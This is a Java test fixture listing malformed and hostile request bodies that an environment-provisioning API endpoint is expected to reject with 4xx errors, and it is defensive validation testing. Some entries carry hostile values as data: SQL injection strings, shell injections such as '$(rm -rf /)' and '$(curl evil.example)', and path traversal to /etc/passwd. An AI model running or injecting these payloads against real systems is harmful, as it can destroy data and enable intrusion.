package dev.envflow.worker;

import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.util.ArrayList;
import java.util.List;
import java.util.function.Consumer;

/**
 * Malformed and hostile request bodies for {@code POST /api/environments}: wrong types, huge strings, SQL and shell
 * metacharacters in names, unicode tricks, 1 MB bodies, deep nesting, numbers and durations that overflow, bodies
 * that are not JSON. Every one must be refused with a 4xx — 400 unless said otherwise — and create nothing.
 */
final class HostileSpecs {

  /** One body, what it tries, and the status it must get. */
  record Hostile(String what, byte[] body, String contentType, int status) {

    Hostile(String what, String body, String contentType, int status) {
      this(what, body.getBytes(java.nio.charset.StandardCharsets.UTF_8), contentType, status);
    }
  }

  private static final ObjectMapper JSON = new ObjectMapper();
  private static final String MEGABYTE = "x".repeat(1024 * 1024);

  private HostileSpecs() {}

  static List<Hostile> all() {
    List<Hostile> all = new ArrayList<>();
    // wrong types
    field(all, "app as a number", s -> s.put("app", 1));
    field(all, "app as true", s -> s.put("app", true));
    field(all, "app as a list", s -> s.putArray("app").add("shop"));
    field(all, "app as an object", s -> s.putObject("app").put("name", "shop"));
    field(all, "environment as a number", s -> s.put("environment", 42));
    field(all, "tier as a number", s -> s.put("tier", 5));
    field(all, "region as a list", s -> s.putArray("region"));
    field(all, "smoke as a list", s -> s.putArray("smoke"));
    field(all, "redis as a string", s -> s.put("redis", "nop"));
    field(all, "redis.provider as a number", s -> s.putObject("redis").put("provider", 1));
    field(all, "redis.tls as a word", s -> s.putObject("redis").put("tls", "yes"));
    field(all, "postgres.version as a string", s -> s.putObject("postgres").put("version", "15"));
    field(all, "postgres.version as a fraction", s -> s.putObject("postgres").put("version", 15.5));
    field(all, "postgres.migrations as a number", s -> s.putObject("postgres").put("migrations", 3));
    field(all, "monitoring.alerts.errorRate as a percentage string", s -> s.putObject("monitoring").putObject("alerts").put("errorRate", "1%"));
    field(all, "monitoring.contacts.emails as a string", s -> s.putObject("monitoring").putObject("contacts").put("emails", "a@b.c"));
    field(all, "paas.secrets as a string", s -> s.putObject("paas").put("secrets", "JWT_SECRET"));
    field(all, "smoke.baseUrl as a number", s -> s.putObject("smoke").put("baseUrl", 7));
    field(all, "approval.required as a string", s -> s.putObject("approval").put("required", "true"));
    field(all, "approval.approvers as a string", s -> s.putObject("approval").put("approvers", "ana"));
    field(all, "approval.timeout as a number", s -> s.putObject("approval").put("timeout", 72));
    field(all, "nop.latency as milliseconds", s -> nop(s).put("latency", 100));
    field(all, "nop.transientFailureRate as a string", s -> nop(s).put("transientFailureRate", "0.3"));
    // huge strings
    field(all, "app of 100,000 characters", s -> s.put("app", "a".repeat(100_000)));
    field(all, "environment of 1 MB", s -> s.put("environment", MEGABYTE));
    field(all, "region of 1 MB", s -> s.put("region", " ".repeat(1024 * 1024)));
    field(all, "a 1 MB unknown field", s -> s.put("padding", MEGABYTE));
    field(all, "1 MB of approvers", s -> {
      var approvers = s.putObject("approval").put("required", true).putArray("approvers");
      for (int i = 0; i < 40_000; i++) {
        approvers.add("approver-" + i + "@example.com");
      }
      approvers.add(7);
    });
    // SQL and shell metacharacters
    field(all, "SQL in app", s -> s.put("app", "a'; DROP TABLE environments; --"));
    field(all, "SQL in environment", s -> s.put("environment", "x\"; DELETE FROM resources; --"));
    field(all, "SQL in paas.app", s -> s.putObject("paas").put("app", "shop' OR '1'='1"));
    field(all, "shell in app", s -> s.put("app", "$(rm -rf /)"));
    field(all, "shell in environment", s -> s.put("environment", "`id`"));
    field(all, "shell in a secret name", s -> s.putObject("paas").putArray("secrets").add("A;rm -rf /"));
    field(all, "shell in the Slack secret name", s -> s.putObject("monitoring").putObject("contacts")
        .put("slackWebhookSecret", "$(curl evil.example)"));
    field(all, "path traversal in paas.app", s -> s.putObject("paas").put("app", "../../etc"));
    field(all, "path traversal in migrations", s -> s.putObject("postgres").put("migrations", "../../etc/passwd"));
    // unicode
    field(all, "accented app", s -> s.put("app", "ünïcode"));
    field(all, "full-width environment", s -> s.put("environment", "ｓｔａｇｉｎｇ"));
    field(all, "emoji in app", s -> s.put("app", "app😀"));
    field(all, "right-to-left override in environment", s -> s.put("environment", "\u202Eevil"));
    field(all, "zero-width space in app", s -> s.put("app", "sh\u200Bop"));
    field(all, "NUL in environment", s -> s.put("environment", "a\u0000b"));
    field(all, "dotted capital I in environment", s -> s.put("environment", "İstanbul"));
    field(all, "newline in app", s -> s.put("app", "shop\nx"));
    // numbers and durations that overflow
    field(all, "postgres.version beyond a long", s -> s.putObject("postgres").put("version", new java.math.BigInteger("9".repeat(40))));
    all.add(new Hostile("postgres.version 1e400", "{\"app\": \"a\", \"environment\": \"b\","
        + " \"postgres\": {\"provider\": \"nop\", \"version\": 1e400}}", "application/json", 400));
    field(all, "approval.timeout that overflows", s -> s.putObject("approval").put("timeout", "PT99999999999999999999H"));
    field(all, "nop.latency that overflows", s -> nop(s).put("latency", "PT99999999999999999999S"));
    field(all, "NaN error rate", s -> s.putObject("monitoring").putObject("alerts").put("errorRate", Double.NaN));
    // deep nesting
    all.add(new Hostile("app nested 10,000 lists deep", "{\"app\": " + "[".repeat(10_000) + "]".repeat(10_000)
        + ", \"environment\": \"b\"}", "application/json", 400));
    all.add(new Hostile("redis nested 5,000 objects deep", "{\"app\": \"a\", \"environment\": \"b\", \"redis\": "
        + "{\"x\": ".repeat(5_000) + "1" + "}".repeat(5_000) + "}", "application/json", 400));
    // not a spec, or not JSON
    all.add(new Hostile("not JSON", "provision me", "application/json", 400));
    all.add(new Hostile("truncated JSON", "{\"app\": \"a\", \"environment\":", "application/json", 400));
    all.add(new Hostile("empty body", "", "application/json", 400));
    all.add(new Hostile("JSON null", "null", "application/json", 400));
    all.add(new Hostile("a list", "[{\"app\": \"a\", \"environment\": \"b\"}]", "application/json", 400));
    all.add(new Hostile("a number", "123", "application/json", 400));
    all.add(new Hostile("a JSON string holding no JSON", "\"{not json\"", "application/json", 400));
    all.add(new Hostile("an empty object", "{}", "application/json", 400));
    all.add(new Hostile("1 MB of spaces around an empty object", " ".repeat(1024 * 1024) + "{}", "application/json", 400));
    all.add(new Hostile("a 1 MB list", "[" + "1,".repeat(512 * 1024) + "1]", "application/json", 400));
    byte[] invalidUtf8 = "{\"app\": \"??\", \"environment\": \"b\"}".getBytes(java.nio.charset.StandardCharsets.US_ASCII);
    invalidUtf8[9] = (byte) 0xff;
    invalidUtf8[10] = (byte) 0xfe;
    all.add(new Hostile("invalid UTF-8", invalidUtf8, "application/json", 400));
    all.add(new Hostile("a spec sent as text/plain", spec().toString(), "text/plain", 415));
    return all;
  }

  /** A valid all-nop spec with one thing broken. */
  private static void field(List<Hostile> all, String what, Consumer<ObjectNode> breakIt) {
    ObjectNode spec = spec();
    breakIt.accept(spec);
    all.add(new Hostile(what, spec.toString(), "application/json", 400));
  }

  private static ObjectNode nop(ObjectNode spec) {
    return spec.putObject("nop");
  }

  static ObjectNode spec() {
    ObjectNode spec = JSON.createObjectNode().put("app", "hostile").put("environment", "test");
    spec.putObject("redis").put("provider", "nop");
    spec.putObject("postgres").put("provider", "nop");
    spec.putObject("monitoring").put("provider", "nop");
    spec.putObject("paas").put("provider", "nop");
    return spec;
  }
}
